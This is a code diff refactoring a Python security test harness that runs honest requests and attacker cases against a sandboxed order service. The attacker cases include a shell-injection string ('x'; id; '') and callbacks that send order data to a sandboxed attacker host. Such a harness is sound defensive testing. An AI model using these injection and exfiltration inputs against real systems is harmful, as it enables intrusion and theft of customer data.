@@ -35,16 +35,10 @@ class Outcome:
 
 def cases(world, loot):
     """The honest callers, then the attackers. `loot` is a path that a successful `os.system` attack leaves a file at."""
-    attacker, address = world.sandbox.attacker, world.sandbox.attacker_address
-    by_name, by_number = world.url(attacker), world.url(address)
-    told_partner = {"action": "notify", "order": "A-1001", "callback": world.url(world.sandbox.partner)}
+    partner = world.sandbox.partner
     found = [
         Case("asks for an order", {"action": "status", "order": "A-1001"}, lambda body: body.get("total")),
-        Case(
-            f"has {world.sandbox.partner} told",
-            told_partner,
-            lambda body: body.get("answer"),
-        ),
+        Case(f"has {partner.name} told", order_to(world, partner), lambda body: body.get("answer")),
         Case(
             "injects a command: subprocess.run(shell=True)",
             {"action": "search", "text": "x'; id; '"},
@@ -63,24 +57,26 @@ def cases(world, loot):
             lambda body: credential(body.get("text", "")),
             "filesystem",
         ),
-        Case(
-            f"sends an order to {attacker}",
-            {"action": "notify", "order": "A-1001", "callback": by_name},
-            lambda body: take_received(world.attacker),
-            "dns",
-        ),
     ]
-    # Without namespaces the machine's own address may be a loopback one, which a policy leaves open.
-    if not address.startswith("127."):
-        found.append(
-            Case(
-                f"sends an order to {address}",
-                {"action": "notify", "order": "A-1001", "callback": by_number},
-                lambda body: take_received(world.attacker),
-                "network",
-            )
-        )
+    for host, kind in ((world.sandbox.attacker_by_name, "dns"), (world.sandbox.attacker_by_number, "network")):
+        if host:
+            found.append(theft(world, host, kind))
     return found
+
+
+def order_to(world, host):
+    """The event that has an order sent to a host."""
+    return {"action": "notify", "order": "A-1001", "callback": world.url(host)}
+
+
+def theft(world, host, kind):
+    """An attacker who has an order sent to a host of his own. It has succeeded when something arrives there."""
+
+    def arrived(_):
+        received = world.take_received(host)
+        return f"{len(received)} bytes of an order arrived" if received else None
+
+    return Case(f"sends an order to {host.name}", order_to(world, host), arrived, kind)
 
 
 def take_loot(loot):
@@ -91,13 +87,6 @@ def take_loot(loot):
     text = path.read_text().strip()
     path.unlink()
     return text
-
-
-def take_received(server):
-    """What the attacker's host was sent since it was last asked."""
-    received = "".join(server.received)
-    server.received.clear()
-    return f"{len(received)} bytes of an order arrived" if received else None
 
 
 def credential(environment):
